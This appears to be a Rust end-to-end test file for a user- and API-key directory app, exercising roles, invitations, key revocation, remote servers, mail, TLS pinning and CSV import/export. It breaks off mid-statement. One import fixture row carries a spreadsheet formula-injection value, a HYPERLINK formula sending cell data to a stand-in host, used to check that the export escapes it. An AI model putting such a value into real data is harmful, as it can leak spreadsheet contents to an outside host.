//! End-to-end tests: the real desktop binary in the real webview, driven over WebDriver
//! (tauri-driver in front of WebKitWebDriver) on the X display the test command provides.
//! Each test leaves a screenshot in `tests/output/e2e/`.

use crate::common::{secret, OTHER_PASSWORD, PASSWORD};
use crate::webdriver::{App, DRIVER_LOCK};
use keyward::core::directory::Directory;
use keyward::core::model::*;
use keyward::core::permission::BuiltinRole;
use keyward::store::SqliteDirectory;
use serde_json::json;
use std::path::PathBuf;
use std::process::Command;
use std::time::{Duration, Instant};

/// The text the X clipboard holds now (empty when it holds nothing), read with xclip.
fn clipboard() -> String {
    let output = Command::new("xclip")
        .args(["-o", "-selection", "clipboard"])
        .output()
        .expect("xclip (installed by ./scripts/test.sh)");
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// A directory file prepared through the core (system clock), closed before the app opens it.
struct Prepared {
    _tmp: tempfile::TempDir,
    db: PathBuf,
}

impl Prepared {
    fn new(prepare: impl FnOnce(&SqliteDirectory, &Credential)) -> Prepared {
        let tmp = tempfile::TempDir::new().unwrap();
        let db = tmp.path().join("directory.db");
        let dir = SqliteDirectory::open(&db).unwrap();
        dir.create_first_admin(FirstAdmin {
            user_name: "root".into(),
            display_name: "Rita Root".into(),
            email: "root@example.com".into(),
            password: secret(PASSWORD),
        })
        .unwrap();
        let root =
            Credential::Session(dir.sign_in("root", &secret(PASSWORD)).unwrap().access_token);
        prepare(&dir, &root);
        Prepared { _tmp: tmp, db }
    }

    fn directory(&self) -> SqliteDirectory {
        SqliteDirectory::open(&self.db).unwrap()
    }
}

fn add_user(dir: &SqliteDirectory, by: &Credential, name: &str, role: &str) -> User {
    dir.create_user(
        by,
        NewUser {
            user_name: name.into(),
            display_name: format!("{} Example", name.to_uppercase()),
            email: format!("{name}@example.com"),
            password: Some(secret(PASSWORD)),
            roles: vec![role.into()],
            ..Default::default()
        },
    )
    .unwrap()
    .user
}

#[test]
fn first_run_then_users_and_a_custom_role_then_signing_in_as_them() {
    let _one_at_a_time = DRIVER_LOCK.lock().unwrap_or_else(|p| p.into_inner());
    let tmp = tempfile::TempDir::new().unwrap();
    let db = tmp.path().join("first-run.db");
    let app = App::open(&db);

    // First run: the new file asks for its first SuperAdmin.
    app.wait_for_element("#setup-form");
    assert_eq!(app.text("#where"), db.display().to_string());
    app.screenshot("01-first-run");
    app.fill(
        "#setup-form",
        json!({"userName": "root", "displayName": "Rita Root",
        "email": "root@example.com", "password": "short", "repeat": "short"}),
    );
    let error = app.wait_text("#setup-form [data-field=password] .field-error");
    assert!(
        error.contains("15"),
        "the password policy speaks on the field: {error}"
    );
    app.fill(
        "#setup-form",
        json!({"password": PASSWORD, "repeat": PASSWORD}),
    );
    app.wait_for_element("#users-table tr[data-user=root]");
    assert!(app.text("#signed-in-as").contains("Rita Root"));

    main_scenario(&app, None);
}

/// The token of a revealed invitation or reset: the code itself on a file, the end of the link
/// on a server (whose address the link must start with).
fn revealed_token(revealed: &str, server: Option<&str>) -> String {
    match server {
        None => revealed.to_owned(),
        Some(url) => {
            assert!(
                revealed.starts_with(url) && revealed.contains("#token="),
                "a server hands out a link to its own page: {revealed}"
            );
            revealed.rsplit("#token=").next().unwrap().to_owned()
        }
    }
}

/// The administrator's day after signing in as root, the same on a file and on a server:
/// a custom role, the keyboard, bad input, users with a password and invited, the invitation
/// redeemed, and a user of the custom role doing what it allows.
fn main_scenario(app: &App, server: Option<&str>) {
    let shot = |name: &str| {
        let prefix = if server.is_some() { "remote-" } else { "" };
        app.screenshot(&format!("{prefix}{name}"));
    };
    // A custom role with a permission checklist.
    app.go("#/roles");
    app.click("#new-role");
    app.wait_for_element("#role-form");
    app.script("for (const p of ['VIEW_USER', 'RESET_PASSWORD', 'VIEW_ROLE', 'VIEW_GROUP', 'VIEW_AUDIT']) document.getElementById('perm-' + p).checked = true; return true");
    app.fill(
        "#role-form",
        json!({"name": "Helpdesk", "description": "Answers the phone"}),
    );
    app.wait_for_element("#roles-table tr[data-role=Helpdesk]");
    shot("03-roles");

    // Keyboard: Ctrl+N opens the new-user dialog, Esc closes it, "/" focuses the search.
    app.go("#/users");
    app.wait_for_element("#users-table tr[data-user=root]");
    app.script("document.activeElement.blur(); return true");
    app.press(&["\u{E009}", "n"]);
    app.wait_for_element("dialog[open] #new-user-form");
    app.press(&["\u{E00C}"]);
    app.wait_for("return document.querySelector('dialog') === null");
    app.press(&["/"]);
    app.wait_for("return document.activeElement.id === 'user-search'");

    // Bad input: the message sits on the field, and nothing is created.
    app.click("#new-user");
    app.fill(
        "#new-user-form",
        json!({"userName": "helen", "displayName": "Helen Desk",
        "email": "not-an-address"}),
    );
    let error = app.wait_text("#new-user-form [data-field=email] .field-error");
    assert!(error.contains("e-mail"), "{error}");
    assert_eq!(app.script("return document.querySelector('#new-user-form [name=email]').getAttribute('aria-invalid')"), json!("true"));
    shot("02-bad-input");
    assert_eq!(app.text("#users-summary"), "1–1 of 1 users");

    // A user with a password and the custom role…
    app.script("document.querySelector('#new-user-form input[name=how][value=password]').checked = true; \
                const role = [...document.querySelectorAll('#new-user-form [name=roles]')].find(c => c.nextSibling.textContent === 'Helpdesk'); \
                role.checked = true; return true");
    app.fill(
        "#new-user-form",
        json!({"email": "helen@example.com", "password": OTHER_PASSWORD}),
    );
    app.wait_for_element("#users-table tr[data-user=helen]");

    // …and an invited Viewer, whose one-time code is shown once.
    app.click("#new-user");
    app.wait_for_element("#new-user-form");
    app.script("[...document.querySelectorAll('#new-user-form [name=roles]')].find(c => c.nextSibling.textContent === 'Viewer').checked = true; return true");
    app.fill(
        "#new-user-form",
        json!({"userName": "ivan", "displayName": "Ivan Invited", "email": "ivan@example.com"}),
    );
    app.wait_for_element("#secret-value");
    let code = app
        .script("return document.querySelector('#secret-value').value")
        .as_str()
        .unwrap()
        .to_owned();
    assert_eq!(revealed_token(&code, server).len(), 43);
    app.click("#secret-done");
    app.wait_for_element("#users-table tr[data-user=ivan]");
    shot("04-users");
    let page = app.script("return document.documentElement.outerHTML");
    assert!(
        !page.as_str().unwrap().contains(&code),
        "the code is gone from the page once the dialog closed"
    );

    // Ivan sets his password with the code, then signs in.
    app.sign_out();
    app.click("#have-code");
    app.fill(
        "#redeem-form",
        json!({"token": code, "password": OTHER_PASSWORD, "repeat": OTHER_PASSWORD}),
    );
    app.wait_for(
        "return document.querySelector('#sign-in-form [name=userName]')?.value === 'ivan'",
    );
    app.sign_in("ivan", OTHER_PASSWORD);
    app.wait_for(
        "return document.querySelector('#signed-in-as')?.textContent.includes('Ivan Invited')",
    );
    // Ivan is a Viewer: he sees the users, and no way to add one.
    app.wait_for_element("#users-table tr[data-user=helen]");
    assert!(!app.exists("#new-user"));
    app.sign_out();

    // Helen holds the custom role: she sees users and may reset passwords, but not add users.
    app.sign_in("helen", OTHER_PASSWORD);
    app.wait_for_element("#users-table tr[data-user=ivan]");
    assert!(
        !app.exists("#new-user"),
        "no CREATE_USER, no New user button"
    );
    assert!(!app.exists("#nav a[data-section=keys]"));
    app.click("#users-table tr[data-user=ivan]");
    app.wait_for_element("#reset-password");
    assert!(!app.exists("#save-user") && !app.exists("#delete-user"));
    shot("05-custom-role");
    // Helen holds all of a Viewer's permissions, so she may reset Ivan's password.
    app.click("#reset-password");
    app.click("dialog[open] button.primary");
    app.wait_for_element("#secret-value");
    let reset = app.script("return document.querySelector('#secret-value').value");
    assert_eq!(revealed_token(reset.as_str().unwrap(), server).len(), 43);
}

#[test]
fn a_key_is_shown_once_copied_cleared_from_the_clipboard_and_revoked() {
    let _one_at_a_time = DRIVER_LOCK.lock().unwrap_or_else(|p| p.into_inner());
    let prepared = Prepared::new(|dir, root| {
        let settings = dir.get_settings(root).unwrap();
        dir.update_settings(
            root,
            SettingsUpdate {
                clipboard_clear_seconds: Some(3),
                update_version: settings.update_version,
                ..Default::default()
            },
        )
        .unwrap();
    });
    let app = App::open(&prepared.db);
    app.sign_in("root", PASSWORD);
    app.wait_for_element("#nav a[data-section=keys]");
    app.go("#/keys");
    app.click("#new-key");
    app.fill(
        "#new-key-form",
        json!({"name": "billing-export", "description": "nightly"}),
    );

    // Masked by default; Show reveals it.
    app.wait_for_element("#secret-value");
    assert_eq!(
        app.script("return document.querySelector('#secret-value').type"),
        json!("password")
    );
    app.click("#secret-toggle");
    assert_eq!(
        app.script("return document.querySelector('#secret-value').type"),
        json!("text")
    );
    let key = app
        .script("return document.querySelector('#secret-value').value")
        .as_str()
        .unwrap()
        .to_owned();
    assert!(
        keyward::core::secret::key_is_well_formed(&key),
        "a kw_ key: {}…",
        &key[..6]
    );
    app.click("#secret-toggle");
    assert_eq!(
        app.script("return document.querySelector('#secret-value').type"),
        json!("password")
    );

    // Copy goes through Rust to the system clipboard, and is cleared after the delay.
    app.click("#secret-copy");
    let status = app.wait_for("return document.querySelector('.copy-status').textContent");
    assert!(
        status.as_str().unwrap().starts_with("Copied — clears in"),
        "{status}"
    );
    let deadline = Instant::now() + Duration::from_secs(5);
    while clipboard() != key {
        assert!(
            Instant::now() < deadline,
            "the clipboard never held the key"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    app.screenshot("06-key-secret");
    let copied_at = Instant::now();
    while clipboard() == key {
        assert!(
            copied_at.elapsed() < Duration::from_secs(10),
            "the clipboard was not cleared"
        );
        std::thread::sleep(Duration::from_millis(200));
    }
    assert!(
        copied_at.elapsed() >= Duration::from_secs(2),
        "cleared only after the delay"
    );
    app.click("#secret-done");

    // Afterwards only the prefix is visible.
    app.wait_for_element("tr[data-key=billing-export]");
    let html = app
        .script("return document.documentElement.outerHTML")
        .as_str()
        .unwrap()
        .to_owned();
    assert!(!html.contains(&key), "the secret is gone from the page");
    let shown = app.text("tr[data-key=billing-export] td.mono");
    assert_eq!(shown, format!("{}…", &key[..11]));
    let directory = prepared.directory();
    assert_eq!(directory.verify_key(&key).unwrap().code, VerifyCode::Valid);

    // Revoke asks first, then the key stops verifying at once and stays listed.
    app.click("tr[data-key=billing-export] button.danger-text");
    app.click("dialog[open] button.danger");
    app.wait_for("return document.querySelector('tr[data-key=billing-export] .badge')?.textContent === 'REVOKED'");
    assert_eq!(
        directory.verify_key(&key).unwrap().code,
        VerifyCode::Revoked
    );
    app.screenshot("07-key-revoked");
    app.go("#/audit");
    app.wait_for_element("#audit-table tbody tr td.mono");
    app.screenshot("08-audit");
}

/// "Use an API key instead": the app works as the key's owner, with the owner's permissions
/// only. A key that is not valid here (a wrong one, then the same key once revoked) is refused
/// on its field, and the form stays.
#[test]
fn an_api_key_signs_the_app_in_as_its_owner_and_a_key_not_valid_here_is_refused_on_its_field() {
    let _one_at_a_time = DRIVER_LOCK.lock().unwrap_or_else(|p| p.into_inner());
    let mut issued = None;
    let prepared = Prepared::new(|dir, root| {
        let kim = dir
            .create_user(
                root,
                NewUser {
                    user_name: "kim".into(),
                    display_name: "Kim Keyholder".into(),
                    email: "kim@example.com".into(),
                    password: Some(secret(PASSWORD)),
                    roles: vec![
                        BuiltinRole::Viewer.id().into(),
                        BuiltinRole::ApiUser.id().into(),
                    ],
                    ..Default::default()
                },
            )
            .unwrap()
            .user;
        let key = dir
            .create_key(root, &kim.id, crate::common::key_named("kim's console key"))
            .unwrap();
        // A key made for someone else waits for its owner's download (SPEC 2).
        let kim = Credential::Session(dir.sign_in("kim", &secret(PASSWORD)).unwrap().access_token);
        let downloaded = dir.download_key(&kim, &key.key.id).unwrap();
        issued = Some((key.key.id, downloaded.secret.unwrap()));
    });
    let (key_id, key) = issued.unwrap();
    let app = App::open(&prepared.db);
    app.wait_for_element("#sign-in-form");
    app.click("#use-key");
    let wrong = format!("{}x", key.expose());
    app.fill("#key-form", json!({"key": wrong}));
    let refused = app.wait_text("#key-form [data-field=key] .field-error");
    assert!(refused.contains("not valid here"), "{refused}");
    assert!(app.exists("#key-form"), "the form stays");

    app.fill("#key-form", json!({"key": key.expose()}));
    app.wait_for(
        "return document.querySelector('#signed-in-as')?.textContent.includes('Kim Keyholder')",
    );
    // A Viewer: the users, and no way to add one.
    app.wait_for_element("#users-table tr[data-user=root]");
    assert!(!app.exists("#new-user"));
    app.screenshot("signed-in-with-a-key");
    app.click("#sign-out");

    prepared
        .directory()
        .revoke_key(&root_of(&prepared), &key_id)
        .unwrap();
    app.click("#use-key");
    app.fill("#key-form", json!({"key": key.expose()}));
    let refused = app.wait_text("#key-form [data-field=key] .field-error");
    assert!(refused.contains("not valid here"), "{refused}");
    assert!(
        !app.exists("#signed-in-as"),
        "not signed in with a revoked key"
    );
}

#[test]
fn each_role_sees_only_what_it_may_do_and_the_core_refuses_the_rest() {
    let _one_at_a_time = DRIVER_LOCK.lock().unwrap_or_else(|p| p.into_inner());
    let prepared = Prepared::new(|dir, root| {
        add_user(dir, root, "vera", "viewer");
        add_user(dir, root, "otto", "operator");
        add_user(dir, root, "ada", "api-user");
        let me = dir.me(root).unwrap();
        dir.create_key(
            root,
            &me.id,
            NewKey {
                name: "root-deploy".into(),
                ..Default::default()
            },
        )
        .unwrap();
    });
    let app = App::open(&prepared.db);

    // A Viewer: lists, no write controls anywhere.
    app.sign_in("vera", PASSWORD);
    app.wait_for_element("#users-table tr[data-user=otto]");
    assert!(!app.exists("#new-user"));
    assert!(
        !app.exists("#nav a[data-section=keys]"),
        "Viewers have no API keys"
    );
    app.click("#users-table tr[data-user=otto]");
    app.wait_for_element("#user-form");
    assert!(
        !app.exists("#save-user") && !app.exists("#delete-user") && !app.exists("#reset-password")
    );
    assert_eq!(app.script("return [...document.querySelectorAll('#user-form input, #user-form select')].every(c => c.disabled)"), json!(true));
    app.screenshot("09-viewer");
    app.go("#/roles");
    app.wait_for_element("#roles-table");
    assert!(!app.exists("#new-role"));
    app.go("#/settings");
    app.wait_for_element("#settings-form");
    assert!(!app.exists("#save-settings"));
    app.screenshot("10-viewer-settings");
    // Calling the command anyway is refused by the core.
    let refused = app.script_with(
        "return window.__TAURI__.core.invoke('create_user', {user: {userName: 'x1', displayName: 'X', email: 'x1@example.com', roles: [], groups: []}}).then(() => 'created', e => e.code)",
        json!([]),
    );
    assert_eq!(refused, json!("FORBIDDEN"));
    app.sign_out();

    // An Operator: sees everyone's keys, manages only their own.
    app.sign_in("otto", PASSWORD);
    app.wait_for_element("#nav a[data-section=keys]");
    app.go("#/keys");
    app.wait_for_element("#new-key");
    assert!(!app.exists("#new-key-for"), "no MANAGE_KEYS");
    app.click(".tabs button:nth-child(2)");
    app.wait_for_element("tr[data-key=root-deploy]");
    assert!(
        !app.exists("tr[data-key=root-deploy] button"),
        "no actions on someone else's key"
    );
    app.screenshot("11-operator-keys");
    app.sign_out();

    // An API User cannot sign in to the console.
    app.sign_in("ada", PASSWORD);
    let message = app.wait_text("#sign-in-form .form-error");
    assert!(
        message.contains("cannot sign in to the console"),
        "{message}"
    );
    app.screenshot("12-api-user-refused");
}

/// A real `keyward serve` process on a free loopback port, stopped on drop.
struct Serve {
    child: std::process::Child,
    url: String,
}

impl Serve {
    fn start(db: &std::path::Path, port: u16) -> Serve {
        Serve::start_with(db, port, &[])
    }

    fn start_with(db: &std::path::Path, port: u16, extra: &[&str]) -> Serve {
        Serve::spawn(db, port, extra, &[])
    }

    /// `keyward serve` with these arguments and environment variables.
    fn spawn(db: &std::path::Path, port: u16, extra: &[&str], env: &[(&str, &str)]) -> Serve {
        let child = Command::new(env!("CARGO_BIN_EXE_keyward"))
            .args(["serve", "--db", db.to_str().unwrap(), "--bind"])
            .arg(format!("127.0.0.1:{port}"))
            .args(extra)
            .envs(env.iter().copied())
            .env("KEYWARD_LOG", "warn")
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .expect("start keyward serve");
        keyward::trust::ensure_crypto_provider();
        let url = format!("http://127.0.0.1:{port}");
        let deadline = Instant::now() + Duration::from_secs(20);
        while reqwest::blocking::get(format!("{url}/healthz")).is_err() {
            assert!(Instant::now() < deadline, "keyward serve did not answer");
            std::thread::sleep(Duration::from_millis(50));
        }
        Serve { child, url }
    }
}

impl Drop for Serve {
    fn drop(&mut self) {
        let _ = Command::new("kill")
            .arg(self.child.id().to_string())
            .status();
        let _ = self.child.wait();
    }
}

#[test]
fn the_main_scenario_runs_against_a_local_keyward_serve() {
    let _one_at_a_time = DRIVER_LOCK.lock().unwrap_or_else(|p| p.into_inner());
    let tmp = tempfile::TempDir::new().unwrap();
    let served = tmp.path().join("team.db");
    crate::common::keyward_init(served.to_str().unwrap(), Some("Rita Root"));
    let port = crate::server::support::free_port();
    let server = Serve::start(&served, port);

    // The app starts on a local file as usual; the team's server is added as a connection.
    let laptop = tmp.path().join("laptop.db");
    let app = App::open(&laptop);
    app.wait_for_element("#setup-form");
    app.click("#connections-link");
    app.click("#new-profile");
    app.fill("#profile-form", json!({"name": "", "url": "ftp://nowhere"}));
    app.wait_text("#profile-form [data-field=name] .field-error");
    assert!(!app
        .text("#profile-form [data-field=url] .field-error")
        .is_empty());
    app.fill(
        "#profile-form",
        json!({"name": "Team server", "url": &server.url}),
    );
    app.wait_for_element("#profiles-table tr[data-profile='Team server']");
    app.screenshot("remote-01-connections");
    app.click("#profiles-table tr[data-profile='Team server'] .connect");
    app.wait_for_element("#sign-in-form");
    assert_eq!(app.text("#where"), server.url);
    app.sign_in("root", PASSWORD);
    app.wait_for_element("#users-table tr[data-user=root]");

    main_scenario(&app, Some(&server.url));

    // The server goes away while root fills in a new user: a banner says so, nothing typed is
    // lost, and the same form goes through once the server is back.
    app.sign_out();
    app.sign_in("root", PASSWORD);
    app.wait_for_element("#users-table tr[data-user=root]");
    app.click("#new-user");
    app.wait_for_element("#new-user-form");
    app.script(
        "const f = document.querySelector('#new-user-form'); \
         f.querySelector('input[name=how][value=password]').checked = true; \
         f.userName.value = 'lena'; f.displayName.value = 'Lena Late'; \
         f.email.value = 'lena@example.com'; return true",
    );
    app.script_with(
        "document.querySelector('#new-user-form [name=password]').value = arguments[0]; return true",
        json!([OTHER_PASSWORD]),
    );
    drop(server);
    app.script("document.querySelector('#new-user-form').requestSubmit(); return true");
    app.wait_for("return !document.getElementById('connection-banner').hidden");
    assert!(app
        .text("#connection-banner-text")
        .contains("Cannot reach the server"));
    assert_eq!(
        app.script("return document.querySelector('#new-user-form [name=userName]')?.value"),
        json!("lena"),
        "the dialog and what was typed are still there"
    );
    app.screenshot("remote-02-connection-lost");
    let server = Serve::start(&served, port);
    app.click("#connection-retry");
    app.wait_for("return document.getElementById('connection-banner').hidden");
    app.script("document.querySelector('#new-user-form').requestSubmit(); return true");
    app.wait_for_element("#users-table tr[data-user=lena]");
    drop(server);
}

/// From a new app on a local file: a saved connection to the server at `url`, connected,
/// and root signed in.
fn signed_in_through_a_connection(app: &App, name: &str, url: &str) {
    app.wait_for_element("#setup-form");
    app.click("#connections-link");
    app.click("#new-profile");
    app.fill("#profile-form", json!({"name": name, "url": url}));
    let row = format!("#profiles-table tr[data-profile='{name}']");
    app.wait_for_element(&row);
    app.click(&format!("{row} .connect"));
    app.wait_for_element("#sign-in-form");
    app.sign_in("root", PASSWORD);
    app.wait_for_element("#users-table tr[data-user=root]");
}

#[test]
fn settings_show_the_servers_e_mail_and_send_a_test_message() {
    let _one_at_a_time = DRIVER_LOCK.lock().unwrap_or_else(|p| p.into_inner());
    let smtp = crate::server::mail::Smtp::start();
    let tmp = tempfile::TempDir::new().unwrap();
    let served = tmp.path().join("team.db");
    crate::common::keyward_init(served.to_str().unwrap(), None);
    let port = crate::server::support::free_port();
    let smtp_url = format!("smtp+plain://127.0.0.1:{}", smtp.port);
    let server = Serve::start_with(
        &served,
        port,
        &[
            "--smtp-url",
            &smtp_url,
            "--mail-from",
            "Keyward <keyward@example.com>",
        ],
    );
    let app = App::open(&tmp.path().join("laptop.db"));
    signed_in_through_a_connection(&app, "Mail server", &server.url);
    app.go("#/settings");
    let status = app.wait_text("#mail-status");
    assert!(
        status.contains(&format!("127.0.0.1:{}", smtp.port)),
        "{status}"
    );
    assert!(status.contains("keyward@example.com"), "{status}");
    app.click("#send-test-mail");
    app.wait_for(
        "return document.getElementById('mail-test-result')?.textContent.startsWith('Delivered')",
    );
    assert!(app.text("#mail-test-result").contains("250"));
    app.script("document.getElementById('mail-setup').scrollIntoView(); return true");
    app.screenshot("settings-mail");
    assert_eq!(smtp.messages().len(), 1);
    assert!(smtp.messages()[0].contains("To: root@example.com"));

    // An invitation from the app: the link is shown, e-mailed, and the user's page says so.
    app.go("#/users");
    app.click("#new-user");
    app.wait_for_element("#new-user-form");
    app.fill(
        "#new-user-form",
        json!({"userName": "mia", "displayName": "Mia Mailed", "email": "mia@example.com"}),
    );
    app.wait_for_element("#secret-value");
    let dialog = app.text("dialog[open]");
    assert!(
        dialog.contains("Keyward is e-mailing this link to mia@example.com"),
        "{dialog}"
    );
    let link = app
        .script("return document.querySelector('#secret-value').value")
        .as_str()
        .unwrap()
        .to_owned();
    app.screenshot("invite-mailed-dialog");
    app.click("#secret-done");
    app.click("#users-table tr[data-user=mia]");
    app.wait_for(
        "return document.getElementById('mail-delivery')?.textContent.startsWith('Invitation e-mailed to mia@example.com')",
    );
    app.screenshot("user-invitation-mailed");
    let messages = smtp.wait_for(2);
    assert_eq!(messages[1]["to"], json!(["mia@example.com"]));
    assert!(
        messages[1]["text"].as_str().unwrap().contains(&link),
        "the message carries the link the app showed"
    );

    // Refused by the SMTP server (550): said on the user's page, with what to do instead.
    app.go("#/users");
    app.click("#new-user");
    app.wait_for_element("#new-user-form");
    app.fill(
        "#new-user-form",
        json!({"userName": "max", "displayName": "Max Refused", "email": "refuse-max@example.com"}),
    );
    app.wait_for_element("#secret-value");
    app.click("#secret-done");
    app.click("#users-table tr[data-user=max]");
    app.wait_for("return document.getElementById('mail-delivery')?.dataset.tone === 'failed'");
    let failed = app.text("#mail-delivery");
    assert!(
        failed.contains("could not be delivered") && failed.contains("550"),
        "{failed}"
    );
    assert!(failed.contains("copy the link instead"), "{failed}");
    app.screenshot("user-invitation-failed");
    drop(server);
}

#[test]
fn the_main_scenario_runs_against_a_keyward_serve_on_postgresql() {
    let _one_at_a_time = DRIVER_LOCK.lock().unwrap_or_else(|p| p.into_inner());
    let tmp = tempfile::TempDir::new().unwrap();
    let database = crate::common::postgres::server().new_database();
    crate::common::keyward_init(&database, Some("Rita Root"));
    let port = crate::server::support::free_port();
    let server = Serve::start(std::path::Path::new(&database), port);
    let app = App::open(&tmp.path().join("laptop.db"));
    signed_in_through_a_connection(&app, "Team database", &server.url);
    app.screenshot("postgres-01-signed-in");
    main_scenario(&app, Some(&server.url));
    drop(server);
}

#[cfg(feature = "server")]
#[test]
fn a_self_signed_server_is_trusted_only_once_its_fingerprint_is_pinned() {
    use keyward::remote::Fingerprint;
    use keyward::server::{load_tls, RunningServer, ServerOptions};
    let _one_at_a_time = DRIVER_LOCK.lock().unwrap_or_else(|p| p.into_inner());
    let tmp = tempfile::TempDir::new().unwrap();
    let generated =
        rcgen::generate_simple_self_signed(vec!["127.0.0.1".to_owned(), "localhost".to_owned()])
            .unwrap();
    let (cert, key) = (tmp.path().join("cert.pem"), tmp.path().join("key.pem"));
    std::fs::write(&cert, generated.cert.pem()).unwrap();
    std::fs::write(&key, generated.signing_key.serialize_pem()).unwrap();
    let fingerprint = Fingerprint::of(generated.cert.der()).to_string();
    let served = SqliteDirectory::open(&tmp.path().join("team.db")).unwrap();
    served
        .create_first_admin(FirstAdmin {
            user_name: "root".into(),
            display_name: "Rita Root".into(),
            email: "root@example.com".into(),
            password: secret(PASSWORD),
        })
        .unwrap();
    let options = ServerOptions {
        tls: Some(load_tls(&cert, &key).unwrap()),
        ..ServerOptions::default()
    };
    let server = RunningServer::start(
        std::sync::Arc::new(served),
        "127.0.0.1:0".parse().unwrap(),
        options,
        1,
    )
    .unwrap();
    let url = server.url();

    let app = App::open(&tmp.path().join("laptop.db"));
    app.wait_for_element("#setup-form");
    app.click("#connections-link");
    app.click("#new-profile");
    app.fill("#profile-form", json!({"name": "Secure", "url": &url}));
    app.wait_for_element("#profiles-table tr[data-profile=Secure]");

    // Never silently: the unknown certificate is refused…
    app.click("#profiles-table tr[data-profile=Secure] .connect");
    let refused = app.wait_text("#connect-error");
    assert!(refused.contains("not trusted"), "{refused}");
    assert!(!app.exists("#sign-in-form"));
    assert_eq!(
        app.script("return document.getElementById('connection-banner').hidden"),
        json!(true),
        "the open file is still fine: no lost-connection banner"
    );

    // …until the administrator has seen its fingerprint and pinned it.
    app.click("#profiles-table tr[data-profile=Secure] .edit");
    app.click("#check-certificate");
    assert_eq!(app.wait_text("#presented-fingerprint"), fingerprint);
    app.screenshot("tls-01-fingerprint");
    app.click("#trust-certificate");
    app.script("document.querySelector('#profile-form').requestSubmit(); return true");
    app.wait_for(
        "return document.querySelector('#profiles-table tr[data-profile=Secure]')?.textContent.includes('Pinned certificate')",
    );
    app.click("#profiles-table tr[data-profile=Secure] .connect");
    app.wait_for_element("#sign-in-form");
    assert_eq!(app.text("#where"), url);
    app.sign_in("root", PASSWORD);
    app.wait_for_element("#users-table tr[data-user=root]");
    drop(server);
}

#[test]
fn users_are_imported_exported_and_the_file_backed_up_and_restored_from_the_app() {
    let _one_at_a_time = DRIVER_LOCK.lock().unwrap_or_else(|p| p.into_inner());
    let prepared = Prepared::new(|dir, root| {
        dir.create_group(
            root,
            NewGroup {
                name: "Support".into(),
                ..Default::default()
            },
        )
        .unwrap();
    });
    let folder = prepared.db.parent().unwrap().to_path_buf();
    let path = |name: &str| folder.join(name).display().to_string();
    std::fs::write(
        folder.join("bad.csv"),
        "userName,displayName,email,roles,groups\n\
         amy,Amy A,amy@example.com,Viewer,Support\n\
         bob,Bob B,not-an-address,Viewer,\n\
         cy,Cy C,cy@example.com,Nobody,\n",
    )
    .unwrap();
    // As a German Excel saves "CSV (Comma delimited)": Windows-1252, ';', CRLF; a cell with
    // a line break (Alt+Enter) and one a spreadsheet would run.
    let mut good = b"userName;displayName;email;roles;groups\r\n".to_vec();
    for i in 0..40 {
        good.extend(format!("user{i:02};User {i};user{i}@example.com;Viewer;Support\r\n").bytes());
    }
    good.extend(b"jurgen;J\xFCrgen \x84Ops\x93;jurgen@example.com;\"Viewer\nOperator\";\r\n");
    good.extend(
        b"eve;\"=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"click\"\")\";eve@example.com;;\r\n",
    );
    std::fs::write(folder.join("good.csv"), good).unwrap();
    let set = |app: &App, selector: &str, value: &str| {
        app.script_with(
            "document.querySelector(arguments[0]).value = arguments[1]; \
             document.querySelector(arguments[0]).dispatchEvent(new Event('input')); return true",
            json!([selector, value]),
        );
    };

    let app = App::open(&prepared.db);
    app.sign_in("root", PASSWORD);
    app.wait_for_element("#users-table tr[data-user=root]");

    // A file with problems: every bad line is listed, nothing is imported.
    app.click("#import-users");
    app.wait_for_element("#import-form");
    set(&app, "#import-form [name=path]", &path("bad.csv"));
    app.click("#import-check");
    app.wait_for_element("#import-problems");
    let problems = app.script(
        "return [...document.querySelectorAll('#import-problems li')].map(li => li.textContent)",
    );
    let problems: Vec<&str> = problems
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p.as_str().unwrap())
        .collect();
    assert_eq!(problems.len(), 2, "{problems:?}");
    assert!(problems[0].starts_with("line 3: email:"), "{problems:?}");
    assert!(problems[1].starts_with("line 4: roles:"), "{problems:?}");
    assert_eq!(
        app.script("return document.querySelector('#import-confirm').disabled"),
        json!(true)
    );
    app.screenshot("import-problems");

    // A good file: checked, then imported with the invitations saved.
    set(&app, "#import-form [name=path]", &path("good.csv"));
    app.click("#import-check");
    assert!(app
        .wait_text("#import-ready")
        .starts_with("42 users are ready"));
    assert_eq!(
        app.wait_text("#import-note"),
        "good.csv is not UTF-8: it was read as Windows-1252"
    );
    set(&app, "#import-form [name=invitesOut]", &path("invites.csv"));
    app.click("#import-confirm");
    assert!(app
        .wait_text("#import-done")
        .starts_with("Imported 42 users (42 invited)"));
    app.screenshot("import-done");
    app.press(&["\u{E00C}"]);
    app.wait_for_element("#users-table tr[data-user=user07]");
    let invites = std::fs::read_to_string(folder.join("invites.csv")).unwrap();
    assert_eq!(invites.lines().count(), 43);

    // Export: every user, no secret.
    app.click("#export-users");
    set(&app, "#export-form [name=path]", &path("all.json"));
    app.click("#export-confirm");
    app.wait_for("return document.querySelector('#export-form') === null");
    let exported = std::fs::read_to_string(folder.join("all.json")).unwrap();
    assert!(exported.contains("\"userName\": \"user39\""));
    assert!(!exported.contains("$argon2"));
    let code = invites.lines().nth(1).unwrap().split(',').nth(2).unwrap();
    assert!(!exported.contains(code));
    assert!(exported.contains("\"displayName\": \"Jürgen „Ops“\""));

    // To CSV for Excel: a byte-order mark, CRLF, and the formula behind a '.
    app.click("#export-users");
    set(&app, "#export-form [name=path]", &path("all.csv"));
    app.click("#export-confirm");
    app.wait_for("return document.querySelector('#export-form') === null");
    let csv = std::fs::read_to_string(folder.join("all.csv")).unwrap();
    assert!(
        csv.starts_with("\u{FEFF}userName,displayName,email,"),
        "{csv}"
    );
    assert!(
        csv.contains("jurgen,Jürgen „Ops“,jurgen@example.com,INVITED,NATIVE,Operator;Viewer,\r\n"),
        "{csv}"
    );
    assert!(
        csv.contains(
            "eve,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"click\"\")\",eve@example.com,"
        ),
        "{csv}"
    );

    // Backup, a change, restore: the change is gone and everyone signs in again.
    app.go("#/directory");
    app.wait_for_element("#backup-form");
    set(&app, "#backup-form [name=path]", &path("backup.db"));
    app.click("#backup-confirm");
    app.wait_for("return [...document.querySelectorAll('.notice')].some(n => n.textContent.includes('Backed up'))");
    assert!(folder.join("backup.db").is_file());
    {
        let dir = prepared.directory();
        let root =
